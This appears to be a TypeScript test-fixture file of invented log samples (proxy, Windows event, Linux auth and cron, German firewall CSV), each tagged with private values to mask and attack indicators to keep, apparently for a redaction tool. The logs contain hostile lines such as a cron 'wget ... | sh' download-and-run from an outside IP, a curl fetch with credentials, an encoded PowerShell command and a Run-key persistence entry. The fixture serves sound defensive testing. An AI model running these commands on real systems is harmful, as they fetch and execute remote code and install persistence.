import type { Sample } from '../sample.ts';

/** Lines of logs as they are pasted. All of it is invented. */
export const LOGS: readonly Sample[] = [
  {
    name: 'a proxy log',
    text: `1772524872.118 203.0.113.40 TCP_MISS/200 GET http://cdn-upd.example/a.php?sid=7f9a2b1c44de8e10aa&user=jo.quay%40gmail.com - DIRECT/198.51.100.77
1772524901.004 10.8.0.14 TCP_TUNNEL/200 CONNECT update-core.example:443 NORDHAFEN\\hbecker HIER_DIRECT/45.9.148.10
1772524955.771 fd12:3456:789a::15 TCP_DENIED/403 POST https://paste-drop.example/u "curl/8.5.0"`,
    secrets: [
      '203.0.113.40',
      'sid=7f9a2b1c44de8e10aa&user=jo.quay%40gmail.com',
      '10.8.0.14',
      'hbecker',
      'fd12:3456:789a::15',
    ],
    indicators: [
      'cdn-upd.example/a.php',
      '198.51.100.77',
      'update-core.example:443',
      '45.9.148.10',
      'paste-drop.example/u',
      'curl/8.5.0',
    ],
  },
  {
    name: 'Windows events',
    text: `4624 An account was successfully logged on. Account Name: hbecker Account Domain: NORDHAFEN Workstation Name: SRV-APP07
Source Network Address: 192.168.40.17 Logon Type: 10
4688 NewProcessName: C:\\Users\\hbecker\\AppData\\Roaming\\svch0st.exe ParentProcessName: C:\\Windows\\explorer.exe
CommandLine: powershell -enc SQBFAFgA; net use \\\\fs01.corp.nordhafen.example\\finance /user:NORDHAFEN\\svc_backup B4ckup!2024
TargetUserName=mgarcia TargetSid=S-1-5-21-3623811015-3361044348-30300820-1013
HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd set to rundll32 C:\\ProgramData\\upd.dll,Start`,
    secrets: [
      'hbecker',
      'SRV-APP07',
      '192.168.40.17',
      'fs01.corp.nordhafen.example',
      'B4ckup!2024',
      'mgarcia',
      'S-1-5-21-3623811015-3361044348-30300820-1013',
    ],
    indicators: [
      'svch0st.exe',
      'powershell -enc SQBFAFgA',
      'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd',
      'C:\\ProgramData\\upd.dll,Start',
    ],
  },
  {
    name: 'a Linux log in and out',
    text: `Mar  3 07:12:44 wks0921 sshd[8812]: Accepted publickey for deploy-ana from 10.3.3.7 port 50122 ssh2: RSA SHA256:u7bXk0
Mar  3 07:12:51 wks0921 sudo:  deploy-ana : TTY=pts/0 ; PWD=/home/abrandt/site ; USER=root ; COMMAND=/usr/bin/curl -u admin:Zeb7a!Kq http://45.61.136.22/x.sh
Mar  3 07:13:02 wks0921 cron[913]: (root) CMD (wget -q -O- hxxp://45[.]61[.]136[.]22/x.sh | sh)
Mar  3 07:14:40 wks0921 postfix/smtp[21]: to=<karin.moll@t-online.de>, relay=mail.nordhafen.example[203.0.113.9]:25
device aa-bb-cc-1d-2e-3f joined; dhcp gave 100.70.1.22 to fritz.box host nas.fritz.box`,
    secrets: [
      'wks0921',
      '10.3.3.7',
      'abrandt',
      'Zeb7a!Kq',
      'karin.moll@t-online.de',
      'mail.nordhafen.example',
      '203.0.113.9',
      'aa-bb-cc-1d-2e-3f',
      '100.70.1.22',
      'nas.fritz.box',
    ],
    indicators: ['http://45.61.136.22/x.sh', 'hxxp://45[.]61[.]136[.]22/x.sh'],
  },
  {
    name: 'a firewall export (CSV, German)',
    text: `Zeit;Quelle;Ziel;Regel;Benutzer;Anmerkung
2026-03-03 08:01:07;10.20.30.41;198.51.100.88:443;any-out;NORDHAFEN\\tkoch;Ticket HD-31337
2026-03-03 08:01:09;203.0.113.61;185.220.101.34:9001;any-out;tkoch;Rechner WKS-0417
2026-03-03 08:02:11;2001:db8:77:4::2;2a03:4000:6:b2::1;v6;;Kunde Kaffee Kontor Möller
2026-03-03 08:03:00;172.31.255.4;onion-gate.example;dns;"Koch, Timo";MAC 00:50:56:9c:2f:11`,
    secrets: [
      '10.20.30.41',
      'HD-31337',
      '203.0.113.61',
      'WKS-0417',
      '2001:db8:77:4::2',
      'Kaffee Kontor Möller',
      '172.31.255.4',
      '00:50:56:9c:2f:11',
      'NORDHAFEN\\tkoch',
    ],
    indicators: [
      '198.51.100.88:443',
      '185.220.101.34:9001',
      '2a03:4000:6:b2::1',
      'onion-gate.example',
    ],
  },
];
